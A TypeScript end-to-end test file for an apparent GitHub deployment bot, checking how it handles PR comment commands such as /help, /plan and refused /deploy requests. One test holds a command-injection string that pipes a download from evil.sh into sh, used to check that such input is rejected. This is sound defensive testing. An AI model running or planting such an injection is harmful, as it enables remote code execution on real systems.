// PR comment commands end to end through Probot: real example `issue_comment` payloads, GitHub
// simulated by nock (static replies; requests recorded with `scope.on("request")`), a real git
// mirror of the fixture repository served over smart HTTP, PGlite state and the worker.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import nock from "nock";
import { type Probot, ProbotOctokit } from "probot";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type HostConfig, HostSchema } from "../../src/config/hostsFile.ts";
import { ParseCache } from "../../src/detect/snapshot.ts";
import { MirrorCache } from "../../src/git/mirror.ts";
import type { WorkerDeps } from "../../src/github/jobs/jobContext.ts";
import { openStore, type Store } from "../../src/state/store.ts";
import { type GitHttpServer, startGitHttpServer } from "../helpers/gitHttpServer.ts";
import { pullRequestFixture } from "../helpers/prFixture.ts";
import { olderRepliesAnswer, recordedApi } from "../helpers/recordedApi.ts";
import { loadTestApp } from "../helpers/testApp.ts";
import { prCommentPayload } from "../helpers/webhooks.ts";

const API = "https://api.github.com";
const OWNER = "acme";
const NAME = "infra";
const FULL = `${OWNER}/${NAME}`;
const R = `/repos/${OWNER}/${NAME}`;

let tmp: string;
let remote: string;
let gitServer: GitHttpServer;
let store: Store;
let probot: Probot;
let jobs: Promise<void>[];
let deps: WorkerDeps;
let remoteCalls: number;
/** Every request nock answered, in order, and every request it could not match. */
const { requests, api } = recordedApi(API);
let unmatched: string[];
/** PR heads and bases. */
let head1: string;
let base1: string;
let head2: string;
let head3: string;
let typoLine: number;

let git: (...args: string[]) => string;
// Also the builder: the fixture's webapp builds its image, and app1 is its only target (no registry needed).
const APP_HOST: HostConfig = HostSchema.parse({
  name: "app1",
  address: "10.0.0.1",
  labels: { role: "app" },
  builder: true,
});

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), "sp-cmd-"));
  remote = join(tmp, "remote");
  // PR #1: the last commit on a branch, main one commit behind.
  git = pullRequestFixture(remote);
  git("update-ref", "refs/pull/1/head", "HEAD");
  head1 = git("rev-parse", "HEAD");
  base1 = git("rev-parse", "main");

  // PR #2: a typo key in the repository config on the PR head.
  git("checkout", "-q", "-b", "bad-config", "main");
  const cfgPath = join(remote, ".github/stackpilot.yml");
  const cfg = readFileSync(cfgPath, "utf8");
  const lines = cfg.split("\n");
  typoLine = lines.indexOf("    permission: write") + 1;
  expect(typoLine).toBeGreaterThan(0);
  lines[typoLine - 1] = "    permision: write";
  writeFileSync(cfgPath, lines.join("\n"));
  git("commit", "-q", "-am", "typo in config");
  git("update-ref", "refs/pull/2/head", "HEAD");
  head2 = git("rev-parse", "HEAD");

  // PR #3: 3,000 changed files: 1,000 in webapp's build context, 1,000 in authelia's mounted
  // config, 1,000 in docs (no stack).
  git("checkout", "-q", "-b", "huge", "main");
  for (const [dir, n] of [
    ["apps/webapp/static", 1000],
    ["stacks/authelia/config/extra", 1000],
    ["docs/pages", 1000],
  ] as const) {
    mkdirSync(join(remote, dir), { recursive: true });
    for (let i = 0; i < n; i++) writeFileSync(join(remote, dir, `f${i}.txt`), `file ${i}\n`);
  }
  git("add", "-A");
  git("commit", "-q", "-m", "3000 files");
  git("update-ref", "refs/pull/3/head", "HEAD");
  head3 = git("rev-parse", "HEAD");
  expect(git("diff", "--name-only", `main...${head3}`).split("\n")).toHaveLength(3000);
  git("checkout", "-q", "feature");

  gitServer = await startGitHttpServer({ token: "ghs_test" });
  const served = gitServer.createRepo(FULL);
  git("push", "-q", "--mirror", served.bareDir);
  store = await openStore({ dataDir: join(tmp, "data") });
}, 120_000);

afterAll(async () => {
  await store?.close();
  await gitServer?.close();
  rmSync(tmp, { recursive: true, force: true });
});

function onNoMatch(req: { method?: string; url?: string; path?: string }) {
  unmatched.push(`${req.method} ${req.url ?? req.path}`);
}

function makeProbot(octokitOptions: Record<string, unknown>): Promise<Probot> {
  return loadTestApp({
    Octokit: ProbotOctokit.defaults((o: object) => ({ ...o, ...octokitOptions })),
    deps,
    onJob: (run) => jobs.push(run),
  });
}

beforeEach(async () => {
  nock.disableNetConnect();
  jobs = [];
  requests.length = 0;
  unmatched = [];
  remoteCalls = 0;
  nock.emitter.on("no match", onNoMatch);
  olderRepliesAnswer(api());
  deps = {
    store,
    mirrors: new MirrorCache({ dir: join(tmp, "mirrors"), maxBytes: 1 << 30, allowedOrigin: gitServer.url }),
    hosts: [],
    remote: {
      exec: () => {
        remoteCalls++;
        return Promise.reject(new Error("no host may be contacted in this test"));
      },
    },
    cache: new ParseCache(),
    appSlug: "stackpilot",
    installationId: "test",
  };
  probot = await makeProbot({ retry: { enabled: false }, throttle: { enabled: false } });
});

afterEach(() => {
  nock.emitter.removeListener("no match", onNoMatch);
  const pending = nock.pendingMocks();
  nock.cleanAll();
  nock.enableNetConnect();
  expect(pending).toEqual([]);
  expect(unmatched).toEqual([]);
  expect(remoteCalls).toBe(0);
});

let commentSeq = 1000;
function commentPayload(
  body: string,
  opts: { pr?: number; login?: string; type?: string; action?: string } = {},
): { payload: Record<string, unknown>; commentId: number } {
  const commentId = ++commentSeq;
  const payload = prCommentPayload({
    repo: { fullName: FULL, cloneUrl: gitServer.cloneUrl(FULL) },
    api: API,
    pr: opts.pr ?? 1,
    commentId,
    body,
    user: { login: opts.login ?? "octocat", type: opts.type ?? "User" },
    ...(opts.action ? { action: opts.action } : {}),
  });
  return { payload, commentId };
}

async function receive(payload: Record<string, unknown>, id = `d-${++commentSeq}`): Promise<void> {
  await probot.receive({ id, name: "issue_comment", payload } as never);
  await Promise.all(jobs);
}

const reactionsPath = (commentId: number) => `${R}/issues/comments/${commentId}/reactions`;
const reactionsOn = (commentId: number) =>
  requests.filter((r) => r.path === reactionsPath(commentId)).map((r) => r.body?.content);
const replies = (pr = 1) =>
  requests
    .filter((r) => r.method === "POST" && r.path === `${R}/issues/${pr}/comments`)
    .map((r) => String(r.body?.body));

/** Installation token, and the two reactions (👀 then 🚀/😕). */
function ackScope(commentId: number): nock.Scope {
  return api()
    .post("/app/installations/42/access_tokens")
    .reply(201, { token: "ghs_test", expires_at: "2099-01-01T00:00:00Z", permissions: {} })
    .post(reactionsPath(commentId))
    .times(2)
    .reply(201, { id: 1 });
}

function prReply(
  scope: nock.Scope,
  pr: number,
  headSha: string,
  headRepo: string | null = FULL,
  baseSha = base1,
): nock.Scope {
  return scope.get(`${R}/pulls/${pr}`).reply(200, {
    number: pr,
    user: { login: "octocat" },
    head: { sha: headSha, ref: "feature", repo: headRepo ? { full_name: headRepo } : null },
    base: { sha: baseSha, ref: "main", repo: { full_name: FULL } },
  });
}

/**
 * The PR has no Stackpilot comment yet: the app lists the comments, creates its own, and lists
 * them again (a concurrent writer's comment would show up there), finding only its own.
 */
function newSticky(scope: nock.Scope, pr: number, id: number): nock.Scope {
  const mine = { id, body: "<!-- stackpilot:plan -->", user: { login: "stackpilot[bot]", type: "Bot" } };
  return scope
    .get(`${R}/issues/${pr}/comments`)
    .query(true)
    .reply(200, [])
    .post(`${R}/issues/${pr}/comments`)
    .reply(201, { ...mine, html_url: `https://github.com/${FULL}/pull/${pr}#issuecomment-${id}` })
    .get(`${R}/issues/${pr}/comments`)
    .query(true)
    .reply(200, [mine]);
}

/** The facts `/deploy` reads: permission, reviews, the plan check runs on the head. */
function deployFacts(
  scope: nock.Scope,
  opts: {
    login?: string;
    permission: string;
    reviews?: unknown[];
    checkRuns?: { head_sha: string; status: string; conclusion: string | null }[];
    /** False when nothing is planned, so the plan check runs are never looked up. */
    planLookup?: boolean;
  },
): nock.Scope {
  const facts = scope
    .get(`${R}/collaborators/${opts.login ?? "octocat"}/permission`)
    .reply(200, { permission: opts.permission, role_name: opts.permission, user: { login: opts.login } })
    .get(`${R}/pulls/1/reviews`)
    .query(true)
    .reply(200, opts.reviews ?? []);
  if (opts.planLookup === false) return facts;
  return facts
    .get(`${R}/commits/${head1}/check-runs`)
    .query(true)
    .reply(200, {
      total_count: (opts.checkRuns ?? []).length,
      check_runs: (opts.checkRuns ?? []).map((c, i) => ({ id: 500 + i, name: "stackpilot/plan", ...c })),
    });
}

const successfulPlan = () => [{ head_sha: head1, status: "completed", conclusion: "success" }];

async function noDeployments(): Promise<void> {
  expect(await store.listDeployments({ repo: FULL, limit: 1000 })).toEqual([]);
  expect(requests.filter((r) => r.path.includes("/deployments"))).toEqual([]);
  expect(requests.filter((r) => r.path.endsWith("/check-runs") && r.method === "POST")).toEqual([]);
}

describe("/help and unknown commands", () => {
  it("/help: 👀 then 🚀 and the help text as a reply", async () => {
    const { payload, commentId } = commentPayload("/help");
    ackScope(commentId).post(`${R}/issues/1/comments`).reply(201, { id: 7, node_id: "IC_new" });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "rocket"]);
    expect(replies()).toHaveLength(1);
    expect(replies()[0]).toContain("#### Stackpilot commands");
    expect(replies()[0]).toContain("/deploy [STACK-GLOB...]");
    // Marked as a reply, then the PR's earlier replies looked up to be collapsed (none here).
    expect(replies()[0]?.endsWith("<!-- stackpilot:reply -->")).toBe(true);
    const lookups = requests.filter((r) => r.method === "POST" && r.path === "/graphql");
    expect(lookups.map((r) => r.body?.variables)).toEqual([
      { owner: OWNER, repo: NAME, number: 1, last: 50 },
    ]);
  });

  it("an unknown /frobnicate: 👀 then 😕, a reply naming it with the help text", async () => {
    const { payload, commentId } = commentPayload("/frobnicate now");
    ackScope(commentId).post(`${R}/issues/1/comments`).reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()).toHaveLength(1);
    expect(replies()[0]).toContain("Unknown command `frobnicate`");
    expect(replies()[0]).toContain("#### Stackpilot commands");
  });
});

describe("/status", () => {
  it("more deployed targets than a comment holds: the rows that fit, then how many did not", async () => {
    const targets = Array.from({ length: 1200 }, (_, i) => ({
      repo: FULL,
      stack: `big-${String(i).padStart(4, "0")}`,
      host: `host-${i % 20}`,
    }));
    for (const t of targets) await store.setDeployed({ ...t, fingerprint: "f", commit: "c".repeat(40) });
    try {
      const { payload, commentId } = commentPayload("/status");
      ackScope(commentId).post(`${R}/issues/1/comments`).reply(201, { id: 7 });
      await receive(payload);
      expect(reactionsOn(commentId)).toEqual(["eyes", "rocket"]);
      const [reply] = replies();
      expect(reply?.length).toBeLessThanOrEqual(65_535);
      expect(reply).toContain("| `big-0000` | `host-0` | `ccccccc` |");
      const shown = reply?.match(/^\| `big-/gm)?.length ?? 0;
      expect(shown).toBeGreaterThan(500);
      expect(reply).toContain(`_…${1200 - shown} more rows did not fit._`);
    } finally {
      await store.db.query("DELETE FROM deployed WHERE repo = $1 AND stack LIKE 'big-%'", [FULL]);
    }
  });
});

describe("/deploy is refused", () => {
  beforeEach(() => {
    deps.hosts = [APP_HOST];
  });

  it("for a user with read permission: the reason names the permission, 😕, nothing deployed", async () => {
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1);
    deployFacts(scope, { permission: "read", checkRuns: successfulPlan() })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()).toHaveLength(1);
    expect(replies()[0]).toContain("**production**: refused");
    expect(replies()[0]).toContain("needs write permission");
    expect(replies()[0]).toContain("has read");
    await noDeployments();
  });

  it("for a pull request from a fork: refused naming forks, nothing deployed", async () => {
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1, "mallory/infra");
    deployFacts(scope, { permission: "admin", checkRuns: successfulPlan() })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()[0]).toMatch(/refused: Pull requests from forks cannot be deployed/);
    await noDeployments();
  });

  it("for a pull request whose fork was deleted (head repo null): refused as a fork", async () => {
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1, null);
    deployFacts(scope, { permission: "admin", checkRuns: successfulPlan() })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()[0]).toContain("forks cannot be deployed");
    await noDeployments();
  });

  it("with `requires: [approved]` and no approving review: refused for want of an approval", async () => {
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1);
    deployFacts(scope, {
      permission: "write",
      checkRuns: successfulPlan(),
      reviews: [
        {
          user: { login: "rev" },
          state: "COMMENTED",
          author_association: "MEMBER",
          submitted_at: "2026-01-05T00:00:00Z",
        },
        // An approval by someone without a role in the repository does not count.
        {
          user: { login: "drive-by" },
          state: "APPROVED",
          author_association: "NONE",
          submitted_at: "2026-01-05T00:01:00Z",
        },
      ],
    })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()[0]).toContain("production needs an approved pull request: it has no approval yet.");
    await noDeployments();
  });

  it("with `requires: [approved]` and outstanding CHANGES_REQUESTED: refused naming the reviewer", async () => {
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1);
    deployFacts(scope, {
      permission: "maintain",
      checkRuns: successfulPlan(),
      reviews: [
        {
          user: { login: "alice" },
          state: "APPROVED",
          author_association: "MEMBER",
          submitted_at: "2026-01-05T00:00:00Z",
        },
        {
          user: { login: "bob" },
          state: "CHANGES_REQUESTED",
          author_association: "COLLABORATOR",
          submitted_at: "2026-01-05T00:02:00Z",
        },
        {
          user: { login: "bob" },
          state: "COMMENTED",
          author_association: "COLLABORATOR",
          submitted_at: "2026-01-05T00:03:00Z",
        },
      ],
    })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    // Named, not pinged: a zero-width space after the @ (render/escape.ts).
    expect(replies()[0]).toContain("changes are requested by @\u200bbob");
    expect(replies()[0]).not.toContain("alice");
    await noDeployments();
  });

  it("when the head has no successful plan check run: refused, asking for /plan", async () => {
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1);
    deployFacts(scope, {
      permission: "admin",
      // A failed plan on the head and a successful one for another commit do not count.
      checkRuns: [
        { head_sha: head1, status: "completed", conclusion: "failure" },
        { head_sha: base1, status: "completed", conclusion: "success" },
        { head_sha: head1, status: "in_progress", conclusion: null },
      ],
      reviews: [
        {
          user: { login: "alice" },
          state: "APPROVED",
          author_association: "OWNER",
          submitted_at: "2026-01-05T00:00:00Z",
        },
      ],
    })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()[0]).toContain("There is no plan for the current head commit yet");
    await noDeployments();
  });

  it("with no hosts configured, a writer is told no hosts are configured: permission first, no plan", async () => {
    deps.hosts = [];
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1);
    deployFacts(scope, { permission: "write", planLookup: false })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    const fetches = gitServer.fetches(FULL);
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()[0]).toContain("No hosts are configured on this Stackpilot server");
    expect(gitServer.fetches(FULL)).toBe(fetches);
    await noDeployments();
  });

  it("with no hosts configured, a reader is refused for the permission, not told about hosts", async () => {
    deps.hosts = [];
    const { payload, commentId } = commentPayload("/deploy");
    const scope = prReply(ackScope(commentId), 1, head1);
    deployFacts(scope, { permission: "read", planLookup: false })
      .post(`${R}/issues/1/comments`)
      .reply(201, { id: 7 });
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    expect(replies()[0]).toContain("needs write permission");
    expect(replies()[0]).not.toContain("No hosts");
    await noDeployments();
  });
});

describe("comments that must not run anything", () => {
  it("a comment by a Bot account is ignored entirely: no reaction, no request", async () => {
    const { payload } = commentPayload("/deploy", { login: "renovate[bot]", type: "Bot" });
    await receive(payload);
    expect(jobs).toHaveLength(1);
    expect(requests).toEqual([]);
  });

  it("an edited comment (issue_comment.edited) triggers nothing", async () => {
    const { payload } = commentPayload("/deploy", { action: "edited" });
    payload.changes = { body: { from: "hello" } };
    const before = gitServer.fetches(FULL);
    await probot.receive({ id: "d-edited", name: "issue_comment", payload } as never);
    await Promise.all(jobs);
    expect(jobs).toHaveLength(0);
    expect(requests).toEqual([]);
    expect(gitServer.fetches(FULL)).toBe(before);
  });

  it("60,000 characters of shell metacharacters and unicode: an invalid-argument reply only", async () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, on purpose
    const evil = "$(curl${IFS}evil.sh|sh);`id`&&rm";
    const filler = "; | & > < $( ) ` \\ ' \" * ? ~ 🚀 \u202eRTL\u202c 中文 \u200b\n".repeat(2000);
    const body = `/deploy web-* --host ${evil}🙂\n${filler}`.slice(0, 60_000);
    expect(body.length).toBe(60_000);
    const { payload, commentId } = commentPayload(body);
    ackScope(commentId).post(`${R}/issues/1/comments`).reply(201, { id: 7 });
    const fetches = gitServer.fetches(FULL);
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "confused"]);
    // Nothing but the token, two reactions and one reply (with the lookup of earlier replies to
    // collapse): no PR read, no mirror fetch, no state.
    expect(requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      "POST /app/installations/42/access_tokens",
      `POST ${reactionsPath(commentId)}`,
      `POST ${R}/issues/1/comments`,
      "POST /graphql",
      `POST ${reactionsPath(commentId)}`,
    ]);
    expect(gitServer.fetches(FULL)).toBe(fetches);
    await noDeployments();
    const reply = replies()[0] as string;
    expect(reply).toContain("(for `--host`) is not a valid host name or glob");
    // The token appears only inside a code span (fenced with a longer backtick run), and the rest
    // of the 60,000 characters not at all.
    expect(reply.length).toBeLessThan(200);
    expect(reply.startsWith(`\`\` ${evil}🙂 \`\` (for \`--host\`)`)).toBe(true);
    expect(reply).not.toContain("中文");
  });
});

describe("plans from comments", () => {
  it("a typo key in .github/stackpilot.yml on the PR head: plan check run fails with an annotation on that line", async () => {
    const { payload, commentId } = commentPayload("/plan", { pr: 2 });
    let check: Record<string, unknown> | undefined;
    prReply(ackScope(commentId), 2, head2)
      .post(`${R}/check-runs`, (b) => {
        check = b;
        return true;
      })
      .reply(201, { id: 99, html_url: "https://github.com/acme/infra/runs/99" });
    newSticky(api(), 2, 8);
    await receive(payload);
    expect(check).toMatchObject({
      name: "stackpilot/plan",
      head_sha: head2,
      status: "completed",
      conclusion: "failure",
    });
    const annotations =
      ((check?.output ?? {}) as { annotations?: Record<string, unknown>[] }).annotations ?? [];
    expect(annotations.length).toBeGreaterThan(0);
    expect(annotations).toContainEqual(
      expect.objectContaining({
        path: ".github/stackpilot.yml",
        start_line: typoLine,
        end_line: typoLine,
        annotation_level: "failure",
      }),
    );
    expect(JSON.stringify(annotations)).toContain("permision");
  });

  it("a PR touching 3,000 files is planned from git (no API file list): the right stacks changed", async () => {
    const { payload, commentId } = commentPayload("/plan", { pr: 3 });
    let check: Record<string, unknown> | undefined;
    prReply(ackScope(commentId), 3, head3)
      .post(`${R}/check-runs`, (b) => {
        check = b;
        return true;
      })
      .reply(201, { id: 100, html_url: "https://github.com/acme/infra/runs/100" });
    newSticky(api(), 3, 9);
    await receive(payload);
    expect(reactionsOn(commentId)).toEqual(["eyes", "rocket"]);
    expect(check).toMatchObject({ head_sha: head3, status: "completed", conclusion: "success" });
    const summary = String(((check?.output ?? {}) as { summary?: string }).summary);
    expect(summary).toContain("**2** of 6 stacks changed");
    expect(summary).toContain("`authelia`");
    expect(summary).toContain("`webapp`");
    expect(requests.some((r) => r.path.endsWith("/files"))).toBe(false);
    expect(replies(3)[0]).toContain("**2** of 6 stacks changed");
  });

  it("checks.create answering 502 once is retried by Probot's Octokit and the check run lands", async () => {
    probot = await makeProbot({
      retry: { enabled: true, retries: 2, retryAfterBaseValue: 1 },
      throttle: { enabled: false },
    });
    const { payload, commentId } = commentPayload("/plan");
    const checkBodies: Record<string, unknown>[] = [];
    prReply(ackScope(commentId), 1, head1)
      .post(`${R}/check-runs`)
      .reply(502, { message: "Bad Gateway" })
      .post(`${R}/check-runs`)
      .reply(201, { id: 101, html_url: "https://github.com/acme/infra/runs/101" });
    newSticky(api(), 1, 10);
    await receive(payload);
    for (const r of requests) if (r.path === `${R}/check-runs`) checkBodies.push(r.body ?? {});
    expect(checkBodies).toHaveLength(2);
    expect(checkBodies[1]).toEqual(checkBodies[0]);
    expect(checkBodies[1]).toMatchObject({ head_sha: head1, status: "completed", conclusion: "success" });
    expect(reactionsOn(commentId)).toEqual(["eyes", "rocket"]);
    // The plan's sticky comment was written after the retried check run, and no error reply.
    expect(replies()).toHaveLength(1);
    expect(replies()[0]).toContain("<!-- stackpilot:plan -->");
  });
});
